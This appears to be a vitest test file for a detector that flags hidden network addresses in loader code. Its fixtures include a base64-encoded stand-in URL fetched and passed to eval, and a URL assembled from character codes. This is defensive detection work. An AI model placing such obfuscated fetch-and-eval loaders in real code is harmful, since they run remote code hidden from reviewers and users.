import { describe, expect, it } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './loader-hidden-address.ts'

const seen = async (files: Record<string, string>): Promise<string[]> =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, where }) => `${strength} ${where.file}:${where.line}`,
  )

describe('hidden addresses', () => {
  it('one in the environment file, whose answer is run', async () => {
    expect(
      await seen({
        '.env': 'KEY=aHR0cHM6Ly9hLmludmFsaWQveA==',
        'app.js': 'const u = atob(process.env.KEY)\nfetch(u).then(async (r) => eval(await r.text()))',
      }),
    ).toEqual(['decisive app.js:2'])
  })

  it('one in character codes', async () => {
    expect(
      await seen({
        'app.js': "require('axios').get(String.fromCharCode(104, 116, 116, 112, 58, 47, 47) + 'a.invalid/x')",
      }),
    ).toEqual(['strong app.js:1'])
  })

  it('not one that stands there', async () => {
    expect(
      await seen({ '.env': 'URL=https://a.example', 'app.js': "fetch(process.env.URL + '/x')" }),
    ).toEqual([])
  })
})
